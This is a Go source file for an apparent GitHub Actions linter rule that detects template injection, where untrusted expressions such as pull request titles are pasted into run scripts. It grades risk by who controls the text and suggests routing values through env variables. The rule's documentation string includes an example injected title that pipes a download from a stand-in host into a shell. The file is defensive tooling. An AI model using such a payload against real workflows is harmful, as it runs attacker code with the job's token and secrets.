package workflow

import (
	"fmt"
	"slices"
	"strings"

	"github.com/rhysd/actionlint"

	"github.com/shipgen/shipgen/lint"
	"github.com/shipgen/shipgen/schema/node"
	"github.com/shipgen/shipgen/schema/workflow"
)

// TemplateInjection finds expressions whose value becomes code.
var TemplateInjection = &lint.Rule{
	Name:  "template-injection",
	Title: "Expression pasted into code",
	Doc: doc("The runner puts an expression's value into the script before any shell or interpreter reads it. A pull request titled `\"; curl evil.example | sh; \"` then runs as part of the script, with the job's token and secrets.",
		"- run: echo \"${{ github.event.pull_request.title }}\"", "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}",
		"Pass the value through the step's env: a variable is data. Text that strangers choose is reported to everybody; inputs, outputs of other steps and branch names, which people with write access choose, to the pedantic audience and the auditor. A local action or workflow that pastes an input is told where a stranger's text is handed to it. Numbers, hashes, comparisons and the results of jobs are harmless and are left alone."),
	Theme: lint.Insecure, Severity: lint.High, Confidence: lint.HighConfidence, Audience: lint.Regular,
	Kinds: workflowsAndActions, Aliases: []string{"zizmor:template-injection"}, Fixable: true,
	File: templateInjection,
}

func templateInjection(p *lint.Pass) error {
	pastedInputs(p)
	return eachStep(p, func(w *workflow.Workflow, j *workflow.Job, s *workflow.Step) {
		pastes(p, w, j, s, s.Run, "the script")
		key := s.Action().Key()
		for _, name := range slices.Concat(sinks[key], moreSinks[key]) {
			pastes(p, w, j, s, input(s, name), "input "+quote(name)+" of "+s.Action().FullName()+", which is run,")
		}
	})
}

// pastes reports what is pasted into one scalar.
func pastes(p *lint.Pass, w *workflow.Workflow, j *workflow.Job, s *workflow.Step, code *node.Node, into string) {
	var all []pasted
	for _, e := range workflow.Expressions(code) {
		if e.Text == "" {
			continue
		}
		all = append(all, pasted{judgeSink(p, w, j, s, &e, into), e})
	}
	reportPasted(p, w, j, s, code, all)
}

// judgeSink is the finding about the worst context that flows into code.
func judgeSink(p *lint.Pass, w *workflow.Workflow, j *workflow.Job, s *workflow.Step, e *workflow.Expression, into string) lint.Finding {
	var worst lint.Finding
	for _, a := range flows(e) {
		f := judgeContext(w, j, s, a)
		if f.Message != "" && (worst.Message == "" || f.Audience < worst.Audience) {
			worst, worst.Span = f, placeOf(p, e, a)
		}
	}
	if worst.Message == "" {
		worst = lint.Finding{Message: "the value of " + quote(e.Text), Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
		worst.Span = place(p, e)
	}
	if e.Node != s.Run && !modelledSink(s, e.Node) || e.Node.Alias {
		worst.Aliases = []string{}
	} else if actionlintDistrusts(e) {
		worst.Aliases = []string{"zizmor:template-injection", "actionlint:expression", "poutine:injection"}
		if s.Run != nil {
			worst.Aliases = append(worst.Aliases, "scorecard:Dangerous-Workflow")
		}
	}
	worst.Hint = "pass it through the step's env and use the variable"
	worst.Message = fmt.Sprintf("%s is pasted into %s as code", worst.Message, strings.TrimSuffix(into, ","))
	return worst
}

// modelledSink says whether an input is one that CodeQL and zizmor know to be run,
// in their spelling: they tell upper case from lower.
func modelledSink(s *workflow.Step, n *node.Node) bool {
	return slices.ContainsFunc(sinks[s.Action().Key()], func(name string) bool { return s.With.Get(name) == n })
}

// actionlintDistrusts says whether the expression reads what actionlint's list of
// untrusted contexts has.
func actionlintDistrusts(e *workflow.Expression) bool {
	known := read(e.Text)
	if known.tree == nil || !strings.Contains(strings.ToLower(e.Text), "github") {
		return false
	}
	if known.distrusted.Load() == 0 {
		_, errs := actionlint.NewExprSemanticsChecker(true, nil).Check(known.tree)
		answer := int32(1)
		if slices.ContainsFunc(errs, func(err *actionlint.ExprError) bool { return strings.Contains(err.Message, "potentially untrusted") }) {
			answer = 2
		}
		known.distrusted.Store(answer)
	}
	return known.distrusted.Load() == 2
}

// judgeContext says what is wrong with a context's text in code; a finding
// without a message means nothing.
func judgeContext(w *workflow.Workflow, j *workflow.Job, s *workflow.Step, a access) lint.Finding {
	named := quote(a.String())
	switch {
	case a.in("env"):
		return judgeEnv(w, j, s, a)
	case strangersText(w, a):
		f := lint.Finding{Message: "text that a stranger chooses (" + named + ")", Severity: lint.High, Audience: lint.Regular}
		if privilegedEvent(w) == nil {
			f.Severity = lint.Medium
		}
		return f
	case a.in("inputs") || a.in("github", "event", "inputs"):
		if len(a) > 1 && plainInput(w, a[len(a)-1]) {
			return lint.Finding{Message: "input " + named + ", which holds nothing that a shell reads,", Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
		}
		return lint.Finding{Message: "input " + named, Severity: lint.Low, Audience: lint.Pedantic, Confidence: lint.MediumConfidence}
	case a.in("github", "ref_name"), a.in("github", "ref"), a.in("github", "base_ref"), a.in("github", "event", "release"):
		return lint.Finding{Message: "a name that people with write access choose (" + named + ")", Severity: lint.Low, Audience: lint.Pedantic, Confidence: lint.MediumConfidence}
	case a.in("steps") && len(a) > 3 && a[2] == "outputs", a.in("needs") && len(a) > 3 && a[2] == "outputs":
		return lint.Finding{Message: "the output " + named, Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
	case a.in("matrix") && len(a) > 1 && dynamicMatrix(j):
		return lint.Finding{Message: "a value of a matrix that is put together at run time (" + named + ")", Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
	}
	return lint.Finding{Message: "the value of " + named, Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
}

// judgeEnv follows `${{ env.X }}` to where X is set.
func judgeEnv(w *workflow.Workflow, j *workflow.Job, s *workflow.Step, a access) lint.Finding {
	elsewhere := lint.Finding{Message: "variable " + quote(a.String()), Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
	if len(a) < 2 {
		return elsewhere
	}
	value := envNamed(w, j, s, a[1])
	for _, e := range workflow.Expressions(value) {
		for _, inner := range flows(&e) {
			if !inner.in("env") && strangersText(w, inner) {
				return lint.Finding{
					Message:  fmt.Sprintf("text that a stranger chooses (%s, by way of %s)", quote(inner.String()), quote(a.String())),
					Severity: lint.High, Audience: lint.Regular,
				}
			}
		}
	}
	return elsewhere
}

// envNamed is EnvOf without regard to case, which expressions do not tell apart.
func envNamed(w *workflow.Workflow, j *workflow.Job, s *workflow.Step, name string) *node.Node {
	for _, env := range []*node.Node{s.Env, j.Env, w.Env} {
		if env == nil {
			continue
		}
		for _, pair := range env.Pairs {
			if strings.EqualFold(pair.Key.Text(), name) {
				return pair.Value
			}
		}
	}
	return nil
}

// plainInput says whether an input can only hold what the file says: a number, a
// boolean, or one of a list.
func plainInput(w *workflow.Workflow, name string) bool {
	declared, plain := false, true
	for _, event := range []string{"workflow_dispatch", "workflow_call"} {
		inputs := w.Trigger(event).Inputs()
		if inputs == nil {
			continue
		}
		for _, pair := range inputs.Pairs {
			if !strings.EqualFold(pair.Key.Text(), name) {
				continue
			}
			declared = true
			switch pair.Value.Get("type").Text() {
			case "boolean", "number", "choice", "environment":
			default:
				plain = false
			}
		}
	}
	return declared && plain
}

// dynamicMatrix says whether any part of a matrix is an expression.
func dynamicMatrix(j *workflow.Job) bool {
	return len(workflow.AllExpressions(j.Matrix())) > 0
}
